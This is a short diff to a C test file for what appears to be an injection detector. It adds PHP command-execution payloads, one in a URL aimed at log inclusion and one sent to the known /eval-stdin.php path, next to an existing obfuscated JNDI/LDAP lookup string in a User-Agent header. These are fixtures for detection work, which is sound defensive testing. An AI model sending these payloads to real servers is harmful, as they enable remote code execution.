@@ -113,6 +113,10 @@ static void code_in_headers_does_not_hang_on_the_resource(void **state)
 		  SINK_HEADER },
 		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
 		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
+		/* a log that is included later runs it; in a body only the resource does */
+		{ HEAD("/missing?%3C?php%20system('id');"), LANGUAGE_PHP, "<?php system('id');", CONTEXT_ALONE, SINK_HEADER },
+		{ "POST /eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');", LANGUAGE_PHP, "<?php system('id');",
+		  CONTEXT_ALONE, SINK_RESOURCE },
 	};
 
 	expect_all(samples, COUNT_OF(samples));
